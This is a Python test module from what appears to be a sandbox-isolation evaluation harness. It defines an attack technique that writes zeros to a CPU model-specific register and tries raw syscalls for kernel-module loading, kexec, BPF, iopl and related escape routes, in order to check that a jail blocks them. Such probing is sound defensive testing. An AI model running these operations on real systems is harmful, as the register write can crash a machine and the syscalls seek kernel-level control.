"""Root loads what it likes into its kernel, and that is the machine's."""

import contextlib
import ctypes
import os
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BLOCKED, HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Load a module, another kernel, a BPF program, and write to model specific registers.",
    claim="G1",
    defences=("jail",),
    stopped_by=("guest:",),
    goals=(HOST_SECRET,),
    policies=(BLOCKED,),
    alone=True,
    dies=True,
    blank="a guest's kernel is the guest's",
)


def attack(case: Case, what: Any) -> None:
    said = []
    with contextlib.suppress(OSError), open("/dev/cpu/0/msr", "r+b", buffering=0) as file:
        os.pwrite(file.fileno(), bytes(8), 0xC0000080)
        said.append("msr written")
    libc = ctypes.CDLL(None, use_errno=True)
    for name, number in (
        ("init_module", 175),
        ("kexec_load", 246),
        ("bpf", 321),
        ("iopl", 172),
        ("perf_event_open", 298),
        ("userfaultfd", 323),
    ):
        said.append(f"{name}: {libc.syscall(number, 3, 0, 0, 0, 0)} {os.strerror(ctypes.get_errno())}")
    case.did("; ".join(said))
    case.refused("it is the guest's own kernel")
